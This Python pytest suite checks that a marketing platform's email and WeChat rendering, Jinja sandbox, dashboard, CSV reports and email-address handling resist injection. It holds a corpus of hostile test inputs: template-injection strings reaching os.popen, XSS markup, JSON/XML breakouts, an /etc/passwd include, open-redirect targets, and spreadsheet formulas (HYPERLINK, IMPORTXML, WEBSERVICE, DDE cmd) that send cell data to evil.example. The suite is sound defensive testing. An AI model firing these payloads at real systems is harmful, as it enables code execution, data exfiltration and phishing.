"""Promise: contact data is inert in every renderer, and templates run in a sandbox.

A corpus of template-injection and XSS strings (Jinja expressions reaching for Python
internals, script and event-handler markup, a ``javascript:`` URL, a CDATA/XML breakout,
a JSON breakout, Unicode direction overrides, very long values) is put into every
declared variable of a contact and rendered through every renderer: email HTML (both the
compile-once skeleton and the full render-then-inline path), email text and subject,
WeChat template messages and customer-service text and news messages. For each one:

- the output for a hostile value is exactly the output for a neutral marker with the
  value put in its place (HTML: the same elements and attributes, the value as text;
  text, subject and WeChat: the same characters): no expression is evaluated (no 49, no
  class names), no element or attribute is added, nothing else changes;
- the WeChat body leaves the connector as well-formed JSON whose values are the rendered
  strings exactly, recipient included (a JSON or XML breakout stays text);
- a signed render tracks only links the template wrote: a contact's value that is a URL
  never becomes a signed click redirect (a defect this suite found in WeChat text
  messages, fixed in ``engine/domain/content/_library.py``).

Templates, the content author's side: a template reaching for Python internals, calling
mutating methods, using a global the sandbox removed or including another item's files
is refused when the catalog loads, with a problem naming the file; one that Jinja's
compiler refuses (an unknown filter, a misplaced extends) too (it used to crash the load,
fixed in ``engine/domain/content/_loader.py``); and a sandbox escape on a branch the declared
defaults never take fails that contact's send with a ``RenderError`` (fixed: it escaped
as a Jinja ``SecurityError`` that the delivery activity would retry for a day).

Contact data shown elsewhere: the dashboard's contact page and the pages that echo a
query parameter show the corpus escaped; a WeChat callback's message text is data, and
a forged element inside it cannot change who sent it.

Email addresses: spellings of a known address (invisible characters a mail server or
IDNA would drop, bidi controls, full-width and case forms, the root's trailing dot) are
either refused with a 400 naming ``traits.email`` or are the known contact, never a
second contact that would escape its unsubscribe; the same spellings, Gmail dots and
``+tags`` of a referrer's own address never earn a referral.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
import shutil
from collections.abc import Iterator, Mapping
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit
from xml.sax.saxutils import escape as xml_escape

import httpx
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine
from sqlmodel import Session, col, select

from stagecoach.connectors.wechat import WeChatConfig, WeChatConnector
from stagecoach.engine.api.routes.events import create_write_key
from stagecoach.engine.api.sessions import COOKIE
from stagecoach.engine.domain.content import (
    BUNDLED_CONTENT_DIR,
    CLICK,
    WECHAT_FIELD_LIMIT,
    ContentLibrary,
    ContentValidationError,
    LinkSigner,
    RenderContact,
    RenderedMessage,
    RenderError,
)
from stagecoach.engine.domain.wechat_callback import UnsafeXml, parse_message, parse_xml
from stagecoach.engine.protocol.connector import OutgoingMessage
from stagecoach.engine.services.referrals import issue_code
from stagecoach.engine.services.storage.models import (
    Contact,
    Identity,
    Merge,
    Referral,
    StageTransition,
)
from tests.security._support import (
    ADMIN_TOKEN,
    CONTACT_EMAIL,
    PUBLIC_URL,
    count,
    seed_contact,
)

CORPUS: tuple[str, ...] = (
    # template injection, Jinja and others
    "{{ 7*7 }}",
    "{{7*7}}",
    "{{ 7*'7' }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{ ''.__class__.__mro__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ self._TemplateReference__context }}",
    "{{ config }}",
    "{{ unsubscribe_url }}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "{# a comment #}",
    "{%",
    # markup
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "<!--",
    "--><script>alert(1)</script><!--",
    "<style>body{display:none}</style>",
    '<a href="https://evil.example/">win</a>',
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;&#x3C;&#60;",
    # WeChat / XML / JSON breakouts
    "]]></Content><Content>x",
    "<![CDATA[x]]>",
    '", "touser": "oEVIL", "x": "',
    '"}}, "touser": "oEVIL"}',
    "\\u003cscript\\u003e",
    # Unicode tricks and sizes
    "\u202egnp.exe",
    "\u200f\u200e\u202a\u202b\u202c\u2066\u2067\u2069",
    "\ufeffBOM",
    "Zoë 王工 🙂 مرحبا",
    "https://evil.example/phish",
    "stagecoachslot0x",
    "x" * 20_000,
    "<b>" * 2_000,
)
_IDS = [
    f"{n:02d}-{re.sub(r'[^a-z0-9]+', '-', v[:24].lower()).strip('-') or 'x'}"
    for n, v in enumerate(CORPUS)
]

MARKER = "ℚ"
"""The neutral value: one character no template or URL here contains."""

BUNDLED_ITEMS = (
    "case-study-manufacturing",  # template message; first_name and company
    "coupon-annual-plan",  # coupon_code in a WeChat template field
    "onboarding-welcome",  # success_manager
    "referral-offer",  # referral_code; referral_url is a link variable
    "newsletter-monthly",  # customer-service news
    "service-apology",  # customer-service text, with a link in its prose
)
NOW = datetime(2026, 11, 22, 9, 0, tzinfo=UTC)


# --- libraries ------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def bundled() -> ContentLibrary:
    return ContentLibrary.load(BUNDLED_CONTENT_DIR)


@pytest.fixture(scope="module")
def full_path(tmp_path_factory: pytest.TempPathFactory) -> ContentLibrary:
    """Two items whose HTML filters a variable, so sends render and inline in full."""
    root = tmp_path_factory.mktemp("full-path-catalog")
    shutil.copytree(BUNDLED_CONTENT_DIR / "_layouts", root / "_layouts")
    for item in ("case-study-manufacturing", "service-apology"):
        shutil.copytree(BUNDLED_CONTENT_DIR / item, root / item)
        for page in (root / item).glob("email.*.html.j2"):
            source = page.read_text("utf-8")
            assert "{{ first_name }}" in source
            page.write_text(source.replace("{{ first_name }}", "{{ first_name|trim }}"), "utf-8")
    library = ContentLibrary.load(root)
    for loaded in library.items:
        for locale in loaded.locales:
            assert not library.uses_compiled_html(loaded.id, locale)
    return library


def _libraries(
    bundled: ContentLibrary, full_path: ContentLibrary
) -> Iterator[tuple[ContentLibrary, str]]:
    for item in BUNDLED_ITEMS:
        yield bundled, item
    for loaded in full_path.items:
        yield full_path, loaded.id


def _link_variables(library: ContentLibrary, item: str) -> frozenset[str]:
    """Variables whose defaults are URLs: Stagecoach fills them (the referral share link,
    ``workflows/contact/activities.py``), never a contact's data; they keep their defaults."""
    return frozenset(
        name
        for name, defaults in library.item(item).variables.items()
        if any(v.startswith(("http://", "https://")) for v in defaults.values())
    )


def _render(
    library: ContentLibrary,
    item: str,
    channel: str,
    locale: str,
    value: str,
    signer: LinkSigner | None = None,
) -> RenderedMessage:
    links = _link_variables(library, item)
    attributes = {name: value for name in library.item(item).variables if name not in links}
    return library.render(
        item,
        channel=channel,
        locale=locale,
        contact=RenderContact("c_inert", attributes, email="x@example.cn", openid="oInert"),
        now=NOW,
        signer=signer,
        idempotency_key="inert",
    )


# --- HTML as a sequence of parser events ---------------------------------------------------


class _Events(HTMLParser):
    """Start tags with their attributes, end tags, text, comments: what a browser builds."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.events: list[tuple[Any, ...]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.events.append(("start", tag, tuple(attrs)))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.events.append(("start", tag, tuple(attrs)))

    def handle_endtag(self, tag: str) -> None:
        self.events.append(("end", tag))

    def handle_data(self, data: str) -> None:
        if self.events and self.events[-1][0] == "data":
            self.events[-1] = ("data", self.events[-1][1] + data)
        else:
            self.events.append(("data", data))

    def handle_comment(self, data: str) -> None:
        self.events.append(("comment", data))

    def handle_decl(self, decl: str) -> None:
        self.events.append(("decl", decl))


def html_events(markup: str) -> list[tuple[Any, ...]]:
    parser = _Events()
    parser.feed(markup)
    parser.close()
    return parser.events


def _put(value: Any, marker: str, payload: str) -> Any:
    """``value`` (events, JSON leaves) with ``marker`` replaced by ``payload`` in strings."""
    if isinstance(value, str):
        return value.replace(marker, payload)
    if isinstance(value, tuple):
        return tuple(_put(v, marker, payload) for v in value)
    if isinstance(value, list):
        return [_put(v, marker, payload) for v in value]
    if isinstance(value, Mapping):
        return {k: _put(v, marker, payload) for k, v in value.items()}
    return value


def _leaves(value: Any, path: str = "") -> dict[str, Any]:
    if isinstance(value, Mapping):
        out: dict[str, Any] = {}
        for key, item in value.items():
            out.update(_leaves(item, f"{path}.{key}" if path else str(key)))
        return out
    if isinstance(value, list):
        out = {}
        for n, item in enumerate(value):
            out.update(_leaves(item, f"{path}[{n}]"))
        return out
    return {path: value}


def _fit(text: str) -> str:
    """WeChat's template-field rule as documented: one line, at most the limit."""
    flat = " ".join(text.split())
    return flat if len(flat) <= WECHAT_FIELD_LIMIT else flat[: WECHAT_FIELD_LIMIT - 1] + "…"


# --- contact data is inert -----------------------------------------------------------------


@pytest.mark.parametrize("payload", CORPUS, ids=_IDS)
def test_contact_values_are_inert_in_every_email_part(
    bundled: ContentLibrary, full_path: ContentLibrary, payload: str
) -> None:
    for library, item in _libraries(bundled, full_path):
        for locale in library.item(item).locales:
            neutral = _render(library, item, "email", locale, MARKER)
            hostile = _render(library, item, "email", locale, payload)
            where = (item, locale, library.uses_compiled_html(item, locale))
            if MARKER in neutral.html:
                assert html_events(hostile.html) == _put(
                    html_events(neutral.html), MARKER, payload
                ), where
            else:
                assert hostile.html == neutral.html, where
            assert hostile.text == neutral.text.replace(MARKER, payload), where
            assert hostile.subject == neutral.subject.replace(MARKER, payload), where
            assert hostile.headers == neutral.headers, where


@pytest.mark.parametrize("payload", CORPUS, ids=_IDS)
def test_contact_values_are_inert_in_every_wechat_body(
    bundled: ContentLibrary, full_path: ContentLibrary, payload: str
) -> None:
    forms: set[str] = set()
    for library, item in _libraries(bundled, full_path):
        for locale in library.item(item).locales:
            neutral = _render(library, item, "wechat", locale, MARKER).wechat
            hostile = _render(library, item, "wechat", locale, payload).wechat
            assert neutral is not None
            assert hostile is not None
            forms.add(str(neutral.get("msgtype", "template")))
            expected = _leaves(neutral)
            got = _leaves(hostile)
            assert got.keys() == expected.keys(), (item, locale)
            for path, leaf in expected.items():
                if not isinstance(leaf, str) or MARKER not in leaf:
                    assert got[path] == leaf, (item, locale, path)
                    continue
                assert not leaf.endswith("…"), "the neutral value must fit"
                wanted = leaf.replace(MARKER, payload)
                if path.startswith("data."):  # a template field: fitted to WeChat's limit
                    wanted = _fit(wanted)
                assert got[path] == wanted, (item, locale, path)
    assert forms == {"template", "text", "news"}


def _tracked_targets(rendered: RenderedMessage, signer: LinkSigner) -> list[str]:
    """The URL inside every click token of a rendered message (HTML, text, WeChat)."""
    blob = html.unescape(rendered.html) + rendered.text + json.dumps(rendered.wechat or {})
    tokens = re.findall(
        re.escape(signer.base_url) + r"/t/c/([A-Za-z0-9_-]+\.[A-Za-z0-9_-]{43})", blob
    )
    return [str(signer.verify(CLICK, token, NOW)["u"]) for token in tokens]


@pytest.mark.parametrize(
    "payload",
    [
        "https://evil.example/login",
        "http://evil.example",
        "visit https://evil.example/a?b=c now",
        "HTTPS://EVIL.EXAMPLE/",
        "https://support.ironbridge-iot.example.evil.example/contact",
    ],
)
def test_a_signed_render_tracks_only_the_links_the_template_wrote(
    bundled: ContentLibrary, full_path: ContentLibrary, payload: str
) -> None:
    """Regression: a WeChat text message turned a contact's name that was a URL into a
    signed /t/c/ redirect on our domain, to wherever the name pointed."""
    signer = LinkSigner(b"signing-key-for-the-corpus-test-0123", PUBLIC_URL, timedelta(days=60))
    for library, item in _libraries(bundled, full_path):
        for locale in library.item(item).locales:
            for channel in ("email", "wechat"):
                own = set(
                    _tracked_targets(
                        _render(library, item, channel, locale, MARKER, signer), signer
                    )
                )
                tracked = _tracked_targets(
                    _render(library, item, channel, locale, payload, signer), signer
                )
                assert tracked, (item, locale, channel)  # links are still tracked
                for url in tracked:
                    assert "evil.example" not in url.lower(), (item, locale, channel, url)
                    assert url in own, (item, locale, channel, url)


@pytest.mark.parametrize(
    "payload",
    [
        "]]></Content><Content>x",
        '", "touser": "oEVIL", "x": "',
        '"}}, "touser": "oEVIL"}',
        "x" * 20_000,
    ],
)
async def test_wechat_bodies_leave_the_connector_as_well_formed_json(
    bundled: ContentLibrary, payload: str
) -> None:
    sent: list[bytes] = []

    def peer(request: httpx.Request) -> httpx.Response:
        if request.url.path.endswith("token"):
            return httpx.Response(200, json={"access_token": "T", "expires_in": 7200})
        sent.append(request.content)
        return httpx.Response(200, json={"errcode": 0, "errmsg": "ok", "msgid": 1})

    connector = WeChatConnector(
        WeChatConfig(appid="wx0123456789abcdef", secret="s", api_base="https://api.weixin.test"),
        transport=httpx.MockTransport(peer),
    )
    try:
        for item in ("coupon-annual-plan", "service-apology", "newsletter-monthly"):
            for locale in ("en", "zh-CN"):
                rendered = _render(bundled, item, "wechat", locale, payload)
                await connector.send(
                    OutgoingMessage(
                        channel="wechat",
                        to="oRealRecipient",
                        idempotency_key=f"{item}:{locale}",
                        contact_id="c_inert",
                        rendered=rendered.to_dict(),
                    )
                )
                body = json.loads(sent[-1])  # well-formed, or this raises
                assert body["touser"] == "oRealRecipient"
                wechat = dict(rendered.wechat or {})
                for key, value in wechat.items():
                    assert body[key] == value, (item, locale, key)
    finally:
        await connector.aclose()
    assert len(sent) == 6


def test_a_wechat_message_text_is_data_and_cannot_change_its_sender() -> None:
    """What a follower types reaches us inside WeChat's XML: escaped, it is one string;
    spliced raw, an injected element cannot replace the real sender (the first wins)."""
    header = (
        "<xml><ToUserName><![CDATA[gh_0123456789ab]]></ToUserName>"
        "<FromUserName><![CDATA[oRealSender123]]></FromUserName>"
        "<CreateTime>1763802060</CreateTime><MsgType><![CDATA[text]]></MsgType>"
    )
    for payload in CORPUS:
        escaped = f"{header}<Content>{xml_escape(payload)}</Content><MsgId>1</MsgId></xml>"
        fields = parse_xml(escaped.encode())
        assert fields["Content"] == payload
        assert parse_message(fields).openid == "oRealSender123"
        spliced = (
            f"{header}<Content><![CDATA[{payload}]]></Content>"
            "<FromUserName>oInjected</FromUserName><MsgId>1</MsgId></xml>"
        )
        try:
            parsed = parse_xml(spliced.encode())
        except UnsafeXml:
            continue  # not XML any more: refused, nothing stored
        assert parse_message(parsed).openid == "oRealSender123"


# --- templates are sandboxed (the content author's side) ----------------------------------


def _catalog(root: Path, body: str) -> Path:
    shutil.copytree(BUNDLED_CONTENT_DIR / "_layouts", root / "_layouts")
    shutil.copytree(BUNDLED_CONTENT_DIR / "newsletter-monthly", root / "newsletter-monthly")
    (root / "newsletter-monthly" / "email.en.html.j2").write_text(
        '{% extends "_layouts/email.en.html.j2" %}{% block body %}<p>Hi {{ first_name }},</p>'
        + body
        + "{% endblock %}",
        "utf-8",
    )
    return root


@pytest.mark.parametrize(
    ("template", "refusal"),
    [
        ("{{ ''.__class__.__mro__ }}", "reaches for Python internals"),
        ("{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}", "internals"),
        ("{{ title.__class__.__init__.__globals__ }}", "internals"),
        ("{{ title|attr('__class__') }}", "internals"),
        ("{{ title|attr('_' ~ '_class_' ~ '_') }}", "unsafe"),
        ("{{ ('{0._' ~ '_class_' ~ '_}').format(title) }}", "unsafe"),
        ("{{ [].append(1) }}", "unsafe"),
        ("{{ {}.update(a=1) }}", "unsafe"),
        ("{{ lipsum.__globals__ }}", "internals"),
        ("{{ lipsum }}", "undefined variable lipsum"),
        ("{{ cycler }}", "undefined variable cycler"),
        ("{{ range(10) }}", "undefined variable range"),
        ("{{ namespace() }}", "undefined variable namespace"),
        ("{{ self._TemplateReference__context }}", "internals"),
        ("{% include 'wp-digital-transformation/email.en.html.j2' %}", "not a layout"),
        ("{% import '_layouts/../newsletter-monthly/item.md' as x %}", "does not exist"),
        ("{% include '/etc/passwd' %}", "not a layout"),
        ("{{ title|nosuchfilter }}", "No filter named 'nosuchfilter'"),
        ("{% extends title %}", "extend"),
    ],
)
def test_a_hostile_template_is_refused_when_the_catalog_loads(
    tmp_path: Path, template: str, refusal: str
) -> None:
    with pytest.raises(ContentValidationError) as caught:
        ContentLibrary.load(_catalog(tmp_path, template))
    [problem] = caught.value.problems
    assert problem.file.endswith("newsletter-monthly/email.en.html.j2"), problem
    assert refusal in problem.message, problem


def test_a_sandbox_escape_the_defaults_never_reach_fails_the_send_for_good(tmp_path: Path) -> None:
    """Load-time validation renders the declared defaults only; a branch they miss still
    runs in the sandbox, which refuses it, and the send fails with a ``RenderError`` (a
    ``ContentError``: the delivery activity fails it for good instead of retrying)."""
    branch = "{% if first_name == 'trigger' %}{{ title|attr('_' ~ '_class_' ~ '_') }}{% endif %}"
    library = ContentLibrary.load(_catalog(tmp_path, branch))
    contact = RenderContact("c_1", {"first_name": "trigger"})
    with pytest.raises(RenderError) as caught:
        library.render("newsletter-monthly", channel="email", locale="en", contact=contact, now=NOW)
    assert "unsafe" in caught.value.message
    assert "newsletter-monthly" in caught.value.message
    # Everyone else still gets the message.
    ok = RenderContact("c_2", {"first_name": "Lei"})
    assert (
        "Hi Lei,"
        in library.render(
            "newsletter-monthly", channel="email", locale="en", contact=ok, now=NOW
        ).html
    )


# --- the dashboard shows contact data escaped ---------------------------------------------


def structure(markup: str) -> list[tuple[str, tuple[str, ...]]]:
    """The page's elements and their attribute names, in order: what injection changes."""
    return [
        (e[1], tuple(sorted(n for n, _ in e[2]))) for e in html_events(markup) if e[0] == "start"
    ]


def assert_inert_page(markup: str, baseline: str) -> None:
    """The same elements and attributes as the page for a neutral value; no event
    handler, no script but the dashboard's own files, no ``javascript:`` target."""
    assert structure(markup) == structure(baseline)
    scripts = set(re.findall(r'<script src="(/dashboard/static/[^"]+)"', baseline))
    for event in html_events(markup):
        if event[0] != "start":
            continue
        _, tag, attrs = event
        values = dict(attrs)
        assert not any(name.startswith("on") for name in values), event
        if tag == "script":
            assert values.get("src") in scripts or values.get("type") == "application/json", event
        for name in ("href", "src", "action"):
            target = str(values.get(name) or "").lower().lstrip()
            assert not target.startswith(("javascript:", "vbscript:")), event


@pytest.fixture
def dashboard(api: TestClient) -> Iterator[TestClient]:
    """The app over https, as deployed: the session cookie is ``Secure``."""
    with TestClient(api.app, base_url="https://testserver", follow_redirects=False) as client:
        yield client


def _signed_in(api: TestClient) -> None:
    response = api.post(
        "/dashboard/login",
        content=f"token={ADMIN_TOKEN}",
        headers={"Content-Type": "application/x-www-form-urlencoded"},
    )
    assert response.status_code == 303
    assert api.cookies.get(COOKIE)


HOSTILE_ID = 'c_"><img src=x onerror=alert(1)>'
MERGED_ID = "c_<svg onload=alert(1)>"
SHORT = [p for p in CORPUS if len(p) <= 64]


def _seed(engine: Engine, contact_id: str, merged_id: str, values: list[str]) -> None:
    """A contact whose every shown field holds ``values``, with one contact merged in."""
    with Session(engine) as session:
        session.add(
            Contact(
                id=contact_id,
                stage=values[0],
                locale=values[1][:35],
                timezone=values[2],
                traits={"first_name": values[3], "company": values[4]},
            )
        )
        session.add(Contact(id=merged_id, stage="merged", traits={"merged_into": contact_id}))
        session.add(Merge(merged_id=merged_id, into_id=contact_id, reason=values[5]))
        for n, value in enumerate(values):
            session.add(
                StageTransition(
                    key=f"{contact_id}:{n}",
                    contact_id=contact_id,
                    from_stage=value,
                    to_stage=value,
                    kind="manual",
                    reason=value,
                    source=value,
                    trigger_event_type=value,
                    at=NOW + timedelta(minutes=n),
                )
            )
        session.commit()


def test_the_dashboard_shows_a_hostile_contact_escaped(
    dashboard: TestClient, engine: Engine
) -> None:
    _seed(engine, HOSTILE_ID, MERGED_ID, SHORT)
    _seed(engine, "c_neutral", "c_neutral_merged", [f"neutral-{n}" for n in range(len(SHORT))])
    _signed_in(dashboard)
    for contact_id, neutral in ((HOSTILE_ID, "c_neutral"), (MERGED_ID, "c_neutral_merged")):
        baseline = dashboard.get(f"/dashboard/contacts/{neutral}")
        assert baseline.status_code == 200
        response = dashboard.get(f"/dashboard/contacts/{quote(contact_id, safe='')}")
        assert response.status_code == 200, response.text[:300]
        assert_inert_page(response.text, baseline.text)
        text = html.unescape(response.text)
        assert HOSTILE_ID in text
        for payload in SHORT:
            assert payload in text, payload  # shown, as text


def test_the_dashboard_echoes_request_values_escaped(dashboard: TestClient) -> None:
    """Path and query values a page shows back (a contact id, a journey, dates, the page
    to return to after signing in), each page compared with its neutral twin."""

    def pages(value: str) -> list[httpx.Response]:
        _signed_in(dashboard)
        answers = [
            dashboard.get(f"/dashboard/contacts/c_{quote(value, safe='')}"),
            dashboard.get("/dashboard/journeys", params={"journey": value}),
            dashboard.get("/dashboard", params={"since": value, "until": value}),
        ]
        dashboard.cookies.clear()
        answers.append(dashboard.get("/dashboard/login", params={"next": f"/dashboard/{value}"}))
        return answers

    baselines = pages("neutral")
    for payload in (p for p in CORPUS if len(p) <= 200 and "/" not in p):
        for response, baseline in zip(pages(payload), baselines, strict=True):
            assert response.status_code == baseline.status_code, (payload, response.url)
            assert_inert_page(response.text, baseline.text)
        # Finding a contact redirects within the dashboard, whatever the id; a value read
        # as an email address or phone number that is malformed or nobody's is a problem
        # page naming it instead, as inert as a neutral one.
        _signed_in(dashboard)
        found = dashboard.get("/dashboard/contacts", params={"id": payload})
        if found.status_code != 303:
            assert found.status_code in (400, 404), payload
            neutral = dashboard.get("/dashboard/contacts", params={"id": "neutral@"})
            assert_inert_page(found.text, neutral.text)
            continue
        location = found.headers["location"]
        assert location.startswith("/dashboard/contacts/"), payload
        assert urlsplit(location).netloc == "", payload


def test_signing_in_never_redirects_off_the_dashboard(dashboard: TestClient) -> None:
    api = dashboard
    for wanted in (
        "https://evil.example/",
        "//evil.example/",
        "/\\evil.example",
        "/dashboard\\@evil.example",
        "javascript:alert(1)",
        "/dashboard/\r\nSet-Cookie: x=y",
    ):
        api.cookies.clear()
        response = api.post(
            "/dashboard/login",
            content=f"token={quote(ADMIN_TOKEN)}&next={quote(wanted)}",
            headers={"Content-Type": "application/x-www-form-urlencoded"},
        )
        assert response.status_code == 303, wanted
        location = response.headers["location"]
        assert location.startswith("/dashboard"), (wanted, location)
        assert not location.startswith("//"), (wanted, location)
        assert "\n" not in location


# --- CSV reports: formulas come out as text (issue 17) -----------------------------------

FORMULAS: tuple[str, ...] = (
    '=HYPERLINK("https://evil.example/?d="&A1,"Open")',
    "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    '=DDE("cmd";"/C calc";"!A0")',
    '=WEBSERVICE("https://evil.example/")',
)


def test_report_csv_cells_never_start_a_formula(api: TestClient, engine: Engine) -> None:
    """Event names and campaign sources are the senders' text: in every CSV report a
    formula comes out with a leading ``'`` (OWASP) and the rest of the value unchanged,
    and the rest of the corpus (none of it a formula) comes out exactly as sent."""
    key = create_write_key(engine, "website")
    sent = [*FORMULAS, *(p for p in CORPUS if 0 < len(p) <= 128 and p.strip() == p)]
    now = datetime.now(UTC).isoformat()
    for n, name in enumerate(sent):
        response = api.post(
            "/v1/track",
            json={
                "userId": f"u-csv-{n}",
                "messageId": f"m-csv-{n}",
                "event": name,
                "timestamp": now,
                "context": {"campaign": {"source": name}},
            },
            auth=(key, ""),
        )
        assert response.status_code == 200, (name, response.text)
    admin = {"Authorization": f"Bearer {ADMIN_TOKEN}"}
    cells: set[str] = set()
    for path, params in (
        ("/v1/reports/paths", {"section": "drop_off", "top": "1000"}),
        ("/v1/reports/channels", {"by": "campaign"}),
        ("/v1/reports/engagement", {"by": "campaign"}),
    ):
        response = api.get(path, params={**params, "format": "csv"}, headers=admin)
        assert response.status_code == 200, (path, response.text)
        for row in csv.reader(io.StringIO(response.text, newline="")):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (path, cell)
                cells.add(cell)
    for name in FORMULAS:
        assert "'" + name in cells, name
    for name in sent[len(FORMULAS) :]:
        if name.startswith(("=", "+", "-", "@")):
            assert "'" + name in cells, name
        else:
            assert name in cells, name


# --- email address spoofing: one mailbox, one canonical address ---------------------------

SAME_MAILBOX: tuple[str, ...] = (
    # Invisible characters that IDNA or a mail server would drop: refused (400).
    "li.lei@exa\u200bmple.cn",  # zero-width space
    "li.\u200blei@example.cn",
    "li.lei@exa\u200cmple.cn",  # zero-width non-joiner
    "li.lei@exa\u200dmple.cn",  # zero-width joiner
    "li.lei@exa\u00admple.cn",  # soft hyphen
    "li.lei@exa\u2060mple.cn",  # word joiner
    "\ufeffli.lei@example.cn",  # byte order mark
    "li.lei@example.cn\u200e",  # left-to-right mark
    "\u202eli.lei@example.cn",  # right-to-left override
    "li.lei@example\u180e.cn",  # Mongolian vowel separator
    # Compatibility and case forms of the same mailbox: the same contact.
    "li.lei@ｅｘａｍｐｌｅ.cn",  # full-width domain
    "ｌｉ．ｌｅｉ@ｅｘａｍｐｌｅ．ｃｎ",  # full-width everything
    "li.lei@example\u3002cn",  # ideographic full stop as the dot
    "li.lei@example.cn.",  # the DNS root's trailing dot
    "LI.LEI@EXAMPLE.CN",
    "li.lei@ＥＸＡＭＰＬＥ.ＣＮ.",
)
"""Spellings of ``CONTACT_EMAIL``: each is refused or is that contact, never a new one."""


@pytest.mark.parametrize("variant", SAME_MAILBOX, ids=[ascii(v) for v in SAME_MAILBOX])
def test_a_spelling_of_a_known_address_is_refused_or_is_the_same_contact(
    api: TestClient, engine: Engine, variant: str
) -> None:
    contact = seed_contact(engine)
    key = create_write_key(engine, "web", source="web")

    response = api.post(
        "/v1/identify",
        json={"anonymousId": "device-1", "messageId": "m-variant", "traits": {"email": variant}},
        auth=(key, ""),
    )

    with Session(engine) as session:
        emails = {
            i.value: i.contact_id
            for i in session.exec(select(Identity).where(col(Identity.kind) == "email")).all()
        }
    assert emails == {CONTACT_EMAIL: contact}  # never a second contact for one mailbox
    if response.status_code == 400:
        [error] = response.json()["errors"]
        assert error["field"] == "traits.email"
        assert "name@domain" in error["message"]
    else:
        assert response.status_code == 200, response.text
        with Session(engine) as session:
            device = session.get(Identity, ("anonymous_id", "device-1"))
        assert device is not None
        assert device.contact_id == contact


@pytest.mark.parametrize(
    "variant",
    [
        *SAME_MAILBOX,
        "li.lei+friend@gmail.com",
        "lilei@gmail.com",
        "l.i.l.e.i+x@googlemail.com",
    ],
    ids=lambda v: ascii(v),
)
def test_a_spelling_of_the_referrers_own_address_never_earns_a_referral(
    api: TestClient, engine: Engine, variant: str
) -> None:
    gmail = variant.endswith(("@gmail.com", "@googlemail.com"))
    referrer_email = "li.lei@gmail.com" if gmail else CONTACT_EMAIL
    referrer = seed_contact(engine, email=referrer_email)
    code = issue_code(engine, referrer, now=datetime.now(UTC)).code
    before = count(engine, Referral)

    response = api.post(f"/r/{code}", json={"name": "Li", "email": variant, "consent": True})

    assert response.status_code in (400, 403), response.text
    if response.status_code == 403:
        assert response.json()["reason"] == "self_referral"
    else:
        assert [e["field"] for e in response.json()["errors"]] == ["email"]
    assert count(engine, Referral) == before
